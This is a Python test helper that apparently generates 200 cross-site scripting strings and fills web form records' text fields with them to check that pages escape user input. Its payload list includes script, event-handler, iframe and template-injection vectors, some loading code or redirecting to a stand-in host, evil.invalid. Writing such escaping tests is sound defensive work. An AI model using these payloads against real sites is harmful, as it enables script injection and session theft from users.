"""200 texts that would run a script wherever a page forgot to escape them, and records full of them."""

from itertools import product
from typing import TypeVar

from shared.pathway.record import Part
from shared.web.forms.description import Field, Form, Kind, describe
from shared.web.forms.raw import RawForm, input_names, repeats
from shared.web.forms.reading import read_raw
from shared.web.forms.writing import to_raw

P = TypeVar("P", bound=Part)
WRITTEN = frozenset({Kind.TEXT, Kind.TEXTAREA, Kind.WORDS_BY_KEY})

# What gets out of the place the text stands in: nothing, attributes, elements with a text of their own, comments.
WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "--></dd>", "</option></select>")
# What would run there: each calls ran(), which is there only to be called by them.
RUNNING = (
    "<script>ran()</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "<script type=module>ran()</script>",
    "<img src=x onerror=ran()>",
    "<img/src='x'/onerror='ran()'>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<a href=javascript:ran() autofocus onfocus=ran()>x</a>",
    "<form action=javascript:ran()><button>x</button></form>",
    "<math><mtext><script>ran()</script></mtext></math>",
    "<object data=javascript:ran()></object>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<style>@import '//evil.invalid/x.css'</style>",
    " onmouseover=ran() onfocus=ran() autofocus x=",
    "{{ ran() }}${ran()}{% raw %}",
    "&lt;script&gt;ran()&lt;/script&gt;&#60;script>ran()</script>",
)
TEXTS: tuple[str, ...] = tuple(out + what for what, out in product(RUNNING, WAYS_OUT))
# Each a part of them with everything that would run and every way out; all parts together are all of them.
PARTS = tuple(
    tuple(TEXTS[place * len(WAYS_OUT) + (place + first) % len(WAYS_OUT)] for place in range(len(RUNNING)))
    for first in range(len(WAYS_OUT))
)
LINE = 200
# An answer here says the contrary of another answer of tests/forms: both together are refused.
LEFT_OPEN = frozenset({"adverse_events"})


def full_of(record: P, first: int) -> P:
    """The same record with hostile text wherever a free text is written, beginning with the `first` of them."""
    raw = to_raw(record)
    for number, (name, longest) in enumerate(written(describe(type(record)), raw)):
        tried = RawForm({**raw.texts, name: (_text(first + number, longest),)})
        if read_raw(type(record), tried).model is not None:  # a code takes no such text
            raw = tried
    found = read_raw(type(record), raw).model
    assert found is not None
    return found


def draft_full_of(record: type[Part], text: str) -> dict[str, list[str]]:
    """A draft of this record in which every input has this text, with one row of whatever is repeated."""
    form = describe(record)
    rows = RawForm({name: ("",) for each in repeats(form.fields) for name in input_names(each.at_row(0), RawForm())})
    return {name: [text] for each in form.fields for name in input_names(each, rows)}


def written(form: Form, raw: RawForm) -> list[tuple[str, int]]:
    """The inputs for text in this record, answered or open, each with the longest text it takes."""
    found: list[tuple[str, int]] = []

    def look(asked: Field) -> None:
        if asked.kind == Kind.REPEAT:
            for number in raw.rows(asked):
                look(asked.at_row(number))
        elif asked.kind == Kind.GROUP:
            for each in asked.fields:
                look(each)
        elif asked.kind in WRITTEN:
            found.extend(
                (name, asked.most)
                for name in input_names(asked, raw)
                if raw.answer(name) or (asked.optional and name not in LEFT_OPEN)
            )

    for each in form.fields:
        look(each)
    return found


def _text(first: int, longest: int) -> str:
    """As many of them, from the `first` on, as fit."""
    text = TEXTS[first % len(TEXTS)]
    for more in range(1, len(TEXTS)):
        longer = f"{text} {TEXTS[(first + more) % len(TEXTS)]}"
        if len(longer) > (longest or LINE):
            break
        text = longer
    return text
